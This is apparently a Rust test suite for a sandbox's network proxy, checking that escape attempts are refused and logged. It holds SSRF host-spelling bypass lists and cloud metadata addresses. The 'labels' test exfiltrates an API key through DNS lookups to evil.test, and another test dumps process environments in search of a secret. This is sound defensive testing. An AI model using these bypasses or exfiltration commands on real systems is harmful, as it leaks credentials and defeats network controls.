//! Ways past the outlet: addresses, other protocols, names as messages, the proxy's own words, and listeners inside.
//! It never sends a packet beyond this machine.

use crate::world::World;
use stockade_tests::stage::Stage;
use stockade_tests::story::{Story, Told, must};

/// Spellings of the loopback that a C library understands and a proxy may not.
const SPELLINGS: &[&str] = &[
    "127.0.0.1",
    "127.1",
    "2130706433",
    "0x7f.1",
    "0x7f000001",
    "0177.0.0.1",
    "127.0.0.1.",
    "0",
    "::ffff:127.0.0.1",
    "localhost",
];

/// Spellings that nothing resolves outside: a proxy's parser is what they are about.
const ODD_HOSTS: &[&str] = &[
    "evil.test\\x00.good.test",
    "good.test@evil.test",
    "good.test%25evil.test",
    "good.test\\r\\nhost: evil.test",
    "[::1]",
    "[::ffff:7f00:1]",
    "[64:ff9b::7f00:1]",
    "[fe80::1%25lo]",
    "169.254.169.254",
    "metadata.google.internal",
    "[fd00:ec2::254]",
    "169.254.170.2",
    "host.docker.internal",
    "172.17.0.1",
    "good\\u3002test",
    "",
];

pub(crate) fn stories() -> Vec<Story> {
    vec![
        Story::new("walls::the_loopback_of_the_host_is_not_reached", loopback),
        Story::new("walls::an_odd_spelling_of_the_loopback_is_not_reached_through_the_proxy", spellings),
        Story::new("walls::an_odd_host_does_not_pass_the_proxy", odd_hosts),
        Story::new("walls::a_nul_in_a_socks_name_does_not_pass", socks),
        Story::new("walls::a_bare_address_does_not_hang_and_is_in_the_log", addresses),
        Story::new("walls::udp_is_not_let_out_and_does_not_hang", udp),
        Story::new("walls::a_name_that_is_not_granted_is_not_resolved", names),
        Story::new("walls::a_question_does_not_carry_data_out", tunnel),
        Story::new("walls::a_hard_coded_resolver_does_not_answer_more", resolvers),
        Story::new("walls::a_name_with_the_placeholder_is_not_resolved", labels),
        Story::new("walls::no_proxy_variables_open_no_way", no_proxy),
        Story::new("walls::listeners_inside_do_not_lose_their_ports", listeners),
        Story::new("walls::the_proxy_s_own_port_is_not_taken_by_a_guest", squat),
        Story::new("walls::the_placeholder_alone_is_in_the_environment", environment),
        Story::new("walls::a_connection_does_not_stay_when_it_says_nothing", silent),
    ]
}

fn loopback(stage: &mut Stage) -> Told {
    let world = World::new(stage)?;
    let script = "for a in 127.0.0.1 127.0.0.2 localhost; do curl -sS -q -m 5 --noproxy '*' http://$a:{http}/reached; done; \
        curl -sS -q -m 5 -g 'http://[::ffff:127.0.0.1]:{http}/reached'; true";
    // The servers are on 127.0.0.1 alone; one line is enough of a control.
    world.outside(stage, script)?.arrived(&["/reached"])?;
    let heard = world.inside(stage, script)?;
    must(!heard.seen.contains("/reached"), || heard.told())
}

fn spellings(stage: &mut Stage) -> Told {
    let world = World::new(stage)?;
    let list = SPELLINGS.join(" ");
    let direct = format!(
        "for a in {list}; do python3 -c 'import socket,sys; s=socket.create_connection((sys.argv[1], {{http}}), 3); \
         s.send(b\"GET /reached HTTP/1.0\\r\\n\\r\\n\"); s.recv(9)' $a 2>/dev/null; done; true"
    );
    let control = world.outside(stage, &direct)?;
    must(control.seen.matches("/reached").count() >= 5, || control.told())?;
    let script = format!("{direct}; cat > spell.py <<'PYTHON'\n{SPELL}\nPYTHON\npython3 spell.py {{http}} {list}");
    let heard = world.inside(stage, &script)?;
    must(!heard.seen.contains("/reached"), || heard.told())?;
    heard.says(&["done"])?;
    must(!heard.ended.out().contains("200"), || heard.told())?;
    heard.logged(&[&["net.refuse", "host=\"127.0.0.1\""]])
}

/// CONNECT, the absolute form and SOCKS, to each spelling.
const SPELL: &str = r#"
from client import *
import re
port = int(sys.argv[1])
for name in sys.argv[2:]:
    bracketed = "[%s]" % name if ":" in name else name
    for request in (
        "CONNECT %s:%d HTTP/1.1\r\nhost: %s:%d\r\n\r\n" % (bracketed, port, bracketed, port),
        head("GET", "http://%s:%d/reached" % (bracketed, port), "%s:%d" % (bracketed, port)),
    ):
        s = dial(*PROXY)
        s.sendall(request.encode())
        print(name, all_of(s)[:12])
    s = dial(*PROXY)
    s.sendall(b"\5\1\0")
    s.recv(2)
    s.sendall(b"\5\1\0\3" + bytes([len(name)]) + name.encode() + port.to_bytes(2, "big"))
    answer = s.recv(10)
    assert answer[1:2] != b"\0", (name, answer)
print("done")
"#;

fn odd_hosts(stage: &mut Stage) -> Told {
    let world = World::new(stage)?;
    let list: Vec<String> = ODD_HOSTS.iter().map(|host| format!("\"{host}\"")).collect();
    let script = format!(
        "cat > odd.py <<'PYTHON'\nfrom client import *\nfor host in [{}]:\n    for port in (443, 80):\n        for form in (\"CONNECT %s:%d HTTP/1.1\\r\\nhost: good.test\\r\\n\\r\\n\", \"GET http://%s:%d/reached HTTP/1.1\\r\\nhost: good.test\\r\\n\\r\\n\"):\n            s = dial(*PROXY)\n            s.sendall((form % (host, port)).encode())\n            answer = all_of(s)\n            assert not answer.startswith((b\"HTTP/1.1 2\", b\"HTTP/1.0 2\")), (host, answer)\nprint(\"done\")\nPYTHON\npython3 odd.py",
        list.join(", ")
    );
    let good = r#"python3 -c '
from client import *
s = dial(*PROXY)
s.sendall(b"CONNECT good.test:443 HTTP/1.1\r\nhost: good.test:443\r\n\r\n")
print(s.recv(12))'"#;
    let heard = world.inside(stage, &format!("{good}; {script}"))?;
    heard.says(&["HTTP/1.1 200", "done"])?;
    must(!heard.seen.contains("/reached"), || heard.told())?;
    heard.logged(&[&["net.refuse", "host=\"169.254.169.254\""], &["net.refuse", "rule=\"malformed\""]])
}

fn socks(stage: &mut Stage) -> Told {
    let world = World::new(stage)?;
    let script = r#"cat > socks.py <<'PYTHON'
from client import *
def five(name, port=443):
    s = dial(*PROXY)
    s.sendall(b"\5\1\0")
    assert s.recv(2) == b"\5\0"
    s.sendall(b"\5\1\0\3" + bytes([len(name)]) + name + port.to_bytes(2, "big"))
    return s.recv(10)[1:2]
def four(name, port=443):
    s = dial(*PROXY)
    s.sendall(b"\4\1" + port.to_bytes(2, "big") + b"\0\0\0\1me\0" + name + b"\0")
    return s.recv(8)[1:2]
assert five(b"good.test") == b"\0" and four(b"good.test") == b"\x5a"
for name in (b"evil.example\0.good.test", b"good.test\0evil.example", b"good.test\r\n", b"", b"a" * 255, b"good.test..", b"\xff\xfe", b"evil.example", b"127.0.0.1"):
    assert five(name) not in (b"\0",), name
for name in (b"evil.example", b"127.0.0.1", b"a" * 300):
    assert four(name) != b"\x5a", name
s = dial(*PROXY)
s.sendall(b"\5\1\0")
s.recv(2)
s.sendall(b"\5\2\0\1\x7f\0\0\1\0\x50")
assert s.recv(10)[1:2] == b"\7"
print("done")
PYTHON
python3 socks.py"#;
    let heard = world.inside(stage, script)?;
    heard.says(&["done"])?;
    heard.logged(&[&["net.open", "host=\"good.test\"", "via=\"socks\""], &["net.refuse", "host=\"evil.example\""]])
}

/// Documentation addresses (RFC 5737, RFC 3849): nothing of ours is there, and the sandbox says no before anybody is asked.
fn addresses(stage: &mut Stage) -> Told {
    let world = World::new(stage)?;
    let script = r#"python3 - <<'PYTHON'
import socket, time
for host, port in (("192.0.2.1", 9999), ("2001:db8::1", 9999), ("169.254.169.254", 9998), ("10.0.0.1", 22)):
    begun = time.monotonic()
    try:
        socket.create_connection((host, port), 5).close()
        print("reached", host)
    except OSError as error:
        print(host, error)
    assert time.monotonic() - begun < 1, host
print("done")
PYTHON
curl -sS -m 5 http://192.0.2.7/; curl -sS -m 5 https://192.0.2.8/; true"#;
    let heard = world.inside(stage, script)?;
    heard.says(&["done", "refused by the sandbox"])?;
    must(!heard.ended.out().contains("reached"), || heard.told())?;
    let hosts = ["192.0.2.1", "2001:db8::1", "169.254.169.254", "10.0.0.1", "192.0.2.7", "192.0.2.8"];
    hosts.iter().try_for_each(|host| heard.logged(&[&["net.refuse", &format!("host=\"{host}\"")]]))
}

fn udp(stage: &mut Stage) -> Told {
    let world = World::new(stage)?;
    let script = r#"python3 - <<'PYTHON'
import socket, time
for family, host, port in ((socket.AF_INET, "192.0.2.1", 443), (socket.AF_INET, "127.0.0.1", 9), (socket.AF_INET6, "2001:db8::1", 123)):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(3)
    begun = time.monotonic()
    try:
        s.connect((host, port))
        s.send(b"data")
        print("answered", s.recv(9))
    except OSError as error:
        print(host, error)
    assert time.monotonic() - begun < 1, host
print("done")
PYTHON"#;
    let heard = world.inside(stage, script)?;
    heard.says(&["done"])?;
    must(!heard.ended.out().contains("answered"), || heard.told())?;
    heard.logged(&[&["net.refuse", "host=\"192.0.2.1\"", "UDP"], &["net.refuse", "host=\"2001:db8::1\"", "UDP"]])
}

fn names(stage: &mut Stage) -> Told {
    let world = World::new(stage)?;
    let script = "getent ahosts good.test || exit 9; for n in ungranted.test x.good.test metadata.google.internal \
        host.docker.internal good.test.evil.test; do getent ahosts $n && echo resolved $n; done; echo done";
    let heard = world.inside(stage, script)?;
    heard.says(&["198.18.", "done"])?;
    must(!heard.ended.out().contains("resolved"), || heard.told())?;
    heard.logged(&[&["net.name", "name=\"ungranted.test\""], &["net.name", "name=\"x.good.test\""]])
}

/// A question by hand: `ask(server, name, type)` gives the answer's code and how many answers it has.
const QUESTION: &str = r#"
import socket, struct, sys
def ask(server, name, kind, tcp=False):
    labels = b"".join(bytes([len(l)]) + l for l in name.split(b"."))
    message = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", kind, 1)
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    s = socket.socket(family, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.settimeout(3)
    s.connect((server, 53))
    if tcp:
        s.send(struct.pack("!H", len(message)) + message)
        s.recv(2, socket.MSG_WAITALL)
    else:
        s.send(message)
    answer = s.recv(4096)
    return answer[3] & 15, struct.unpack("!H", answer[6:8])[0]
"#;

fn tunnel(stage: &mut Stage) -> Told {
    let world = World::new(stage)?;
    let script = format!(
        r#"cat > dns.py <<'PYTHON'
{QUESTION}
us = "198.18.0.2"
assert ask(us, b"good.test", 1) == (0, 1)
assert ask(us, b"good.test", 1, True) == (0, 1)
for kind in (16, 10, 65, 64, 5, 15, 33, 35, 255):
    code, answers = ask(us, b"good.test", kind)
    assert answers == 0, (kind, code, answers)
    code, answers = ask(us, b"x" * 63 + b"." + b"y" * 63 + b"." + b"z" * 60 + b".evil.test", kind)
    assert code != 0 and answers == 0, (kind, code, answers)
print("done")
PYTHON
python3 dns.py"#
    );
    let heard = world.inside(stage, &script)?;
    heard.says(&["done"])?;
    heard.logged(&[&["net.name", "ty=\"TYPE16\"", "name=\"good.test\""], &["net.name", "xxx", "evil.test"]])
}

fn resolvers(stage: &mut Stage) -> Told {
    let world = World::new(stage)?;
    let script = format!(
        "cat > dns.py <<'PYTHON'\n{QUESTION}\nfor server in (\"8.8.8.8\", \"1.1.1.1\", \"2001:4860:4860::8888\"):\n    assert ask(server, b\"good.test\", 1) == (0, 1), server\n    assert ask(server, b\"example.com\", 1)[0] == 3, server\nprint(\"done\")\nPYTHON\npython3 dns.py; curl -sS -m 3 https://1.1.1.1/dns-query; curl -sS -m 3 -k https://1.1.1.1:853/; true"
    );
    let heard = world.inside(stage, &script)?;
    heard.says(&["done"])?;
    heard.logged(&[
        &["net.name", "name=\"example.com\""],
        &["net.refuse", "host=\"1.1.1.1\"", "port=443"],
        &["net.refuse", "host=\"1.1.1.1\"", "port=853"],
    ])
}

fn labels(stage: &mut Stage) -> Told {
    let world = World::new(stage)?;
    let script = "getent ahosts good.test || exit 9; getent ahosts $API_KEY.evil.test && echo resolved; \
        getent ahosts $(printf %s $API_KEY | od -An -tx1 | tr -d ' \\n' | fold -w60 | paste -sd.).evil.test && echo resolved; true";
    let heard = world.inside(stage, script)?;
    must(!heard.ended.out().contains("resolved"), || heard.told())?;
    heard.logged(&[&["secret.canary", "name=\"key\"", "evil.test"]])
}

fn no_proxy(stage: &mut Stage) -> Told {
    let world = World::new(stage)?;
    let script = "export NO_PROXY='*' no_proxy='*'; unset HTTPS_PROXY HTTP_PROXY ALL_PROXY https_proxy http_proxy all_proxy; \
        curl -sS -m 5 --noproxy '*' -k https://ungranted.test/reached; curl -sS -m 5 -k --connect-to ::192.0.2.1:443 https://ungranted.test/reached; true";
    world.outside(stage, script)?.arrived(&["/reached"])?;
    let heard = world.inside(stage, script)?;
    must(!heard.seen.contains("/reached"), || heard.told())?;
    heard.logged(&[&["net.name", "ungranted.test"], &["net.refuse", "192.0.2.1"]])
}

/// A development server works beside the outlet, on the ports of granted names too.
fn listeners(stage: &mut Stage) -> Told {
    let world = World::new(stage)?;
    let script = "echo served > page; for a in 127.0.0.1 0.0.0.0; do for p in 8000 2222; do \
        timeout 20 python3 -m http.server --bind $a $p >/dev/null 2>&1 & s=$!; \
        for i in $(seq 100); do curl -sS http://127.0.0.1:$p/page 2>/dev/null && break; sleep 0.05; done | sed \"s/^/$a $p /\"; \
        curl -sS https://good.test/bytes/3 | sed 's/^/beside /'; echo; kill $s; wait $s; done; done";
    let heard = world.inside(stage, script);
    let heard = heard?;
    let out = heard.ended.out();
    let served = ["127.0.0.1 8000 served", "127.0.0.1 2222 served", "0.0.0.0 8000 served"];
    served.iter().try_for_each(|line| must(out.contains(line), || format!("no {line:?} in {}", heard.told())))?;
    must(out.matches("beside ...").count() == 4, || heard.told())
}

fn squat(stage: &mut Stage) -> Told {
    let world = World::new(stage)?;
    let script = r#"python3 - <<'PYTHON'
import socket
for address in ("198.18.0.1", "198.18.0.2", "0.0.0.0"):
    for port in (3128, 53, 443):
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            s.bind((address, port))
            s.listen()
            print("bound", address, port)
        except OSError as error:
            print(address, port, error)
PYTHON
curl -sS -x $PROXY https://good.test/bytes/3; curl -sS https://good.test/bytes/3"#;
    let heard = world.inside(stage, script)?;
    heard.says(&["......"])?;
    let out = heard.ended.out();
    must(!out.contains("bound 198.18.0.1 3128") && !out.contains("443\n"), || heard.told())
}

fn environment(stage: &mut Stage) -> Told {
    let world = World::new(stage)?;
    let script = "env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'; ps e 2>/dev/null; \
        grep -rs 'sk-eg''ress' /run /tmp /etc . 2>/dev/null; echo done";
    // `inside` fails when the secret comes out.
    world.inside(stage, script)?.says(&["API_KEY=", "done"])
}

fn silent(stage: &mut Stage) -> Told {
    let world = World::new(stage)?;
    let script = r#"python3 - <<'PYTHON'
from client import *
kept = [dial("good.test", 443) for _ in range(50)] + [dial(*PROXY) for _ in range(50)]
kept[0].sendall(b"\x16\x03\x01\xff\xff" + b"\0" * 100)
kept[50].sendall(b"CONNECT ")
print("done")
PYTHON
curl -sS -m 10 https://good.test/bytes/3"#;
    world.inside(stage, script)?.says(&["done", "..."])
}
